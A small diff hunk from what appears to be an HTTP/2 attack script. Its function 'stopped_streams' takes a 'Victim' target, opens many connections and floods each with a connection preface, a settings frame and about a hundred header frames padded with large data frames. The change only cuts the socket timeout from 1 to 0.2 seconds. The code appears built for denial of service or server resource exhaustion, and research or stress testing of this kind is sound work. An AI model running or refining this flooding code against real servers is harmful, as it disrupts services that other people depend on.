@@ -87,7 +87,7 @@ def stopped_streams(target: Victim) -> Iterator[socket.socket]:
     post = [frame(1, 4, number, b"\x83\x86\x84\x01\x01a") + frame(0, 0, number, bytes(16000)) * 4 for number in range(1, 200, 2)]
     for _ in range(CONNECTIONS):
         sock = target.slow()
-        sock.settimeout(1)
+        sock.settimeout(0.2)
         send(sock, PREFACE + frame(4, 0, 0) + b"".join(post))
         yield sock
 
